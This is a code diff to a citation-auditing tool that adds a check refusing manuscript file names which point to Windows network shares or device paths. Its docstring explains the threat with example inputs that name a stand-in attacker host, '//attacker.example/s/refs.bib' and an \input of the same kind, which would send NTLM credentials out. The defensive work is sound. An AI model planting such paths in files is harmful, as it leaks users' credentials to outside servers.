@@ -68,6 +68,7 @@ __all__ = [
     "foreign_file",
     "is_version_control",
     "journal_naming_a_file",
+    "network_location",
     "planted_journal",
     "shown_name",
     "sqlite_hazard",
@@ -102,6 +103,38 @@ _MOST_STEPS = 8 * _LONGEST_PATH
 _MOST_VETTED = 1_000  # names in a folder judged whole (`first_outside`): a cache holds a few
 # Set while a stranger's upload is being read: an unconfined scope then follows no name.
 _STRANGERS: ContextVar[bool] = ContextVar("citeaudit_strangers_files", default=False)
+
+
+def network_location(name: str | os.PathLike[str]) -> bool:
+    """Whether `name` names another machine's file as Windows reads it: two separators
+    first -- a share (``\\\\host\\share``, ``//host/share``), WebDAV
+    (``\\\\host@SSL\\x``), a device path (``\\\\.\\pipe\\x``, ``\\\\?\\UNC\\host``) --
+    or the kernel's own prefix (``\\??\\UNC\\host``, passed through as written). Windows
+    opens such a name by connecting to that host: merely asking whether it is a file
+    sends the user's NTLM credentials to a server of the name's choosing.
+
+    Why here: the command line without ``--confine`` follows a manuscript's names
+    wherever they point (the author's own files), so an editor checking a submission
+    with ``citeaudit check paper.md`` on Windows had ``bibliography:
+    //attacker.example/s/refs.bib`` or ``\\input{//attacker.example/s/x}`` looked up
+    over SMB (or WebDAV over HTTP) before "not found" came back. Judged as written, the
+    same on every system: POSIX reads ``//x`` as ``/x``, but a manuscript naming a file
+    so means a share, and its answer must not depend on where it is checked."""
+    text = os.fsdecode(os.fspath(name))
+    doubled = len(text) >= 2 and text[0] in "\\/" and text[1] in "\\/"
+    return doubled or text.startswith("\\??\\")
+
+
+def _names_a_share(target: str, candidates: Sequence[Path]) -> bool:
+    """Whether the name `target` an input gives leads to another machine's file: it is
+    one (`network_location`), or a candidate built from it is and the name itself holds
+    two separators in a row (knitr's ``here::here("//host/s/x.bib")`` is written inside
+    R code). A candidate that is a share only because the manuscript lies on one
+    (``\\\\fileserver\\home\\paper.tex`` naming ``refs.bib``) is the author's choice."""
+    if network_location(target):
+        return True
+    doubled = any(pair in target for pair in ("//", "\\\\", "/\\", "\\/"))
+    return doubled and any(map(network_location, candidates))
 
 
 @contextmanager
@@ -316,6 +349,14 @@ class InputScope:
         """The one sentence for a refused name: the same whether the file exists or not."""
         return f"{what} '{shown_name(target)}' is outside the audit's own files; not read"
 
+    def network_refusal(self, what: str, target: str) -> str:
+        """The one sentence for a name of another machine's file (`network_location`),
+        never looked up: the same whether anything answers there or not."""
+        return (
+            f"{what} '{shown_name(target)}' names a file on another machine (a network "
+            "share or a Windows device path); it is not looked up"
+        )
+
     @property
     def names_exhausted(self) -> bool:
         """Whether the audit is past its cap on named files (and was told so): a reader
@@ -352,6 +393,8 @@ class InputScope:
         every name unlooked-at (`strangers_files`)."""
         if not self.follows_names:
             return self.refusal(what, target)
+        if not self.confined and _names_a_share(target, candidates):
+            return self.network_refusal(what, target)
         refused = self.confined and Path(target).is_absolute()
         if not refused and candidates and all(_too_long(c) for c in candidates):
             why = os.strerror(errno.ENAMETOOLONG)
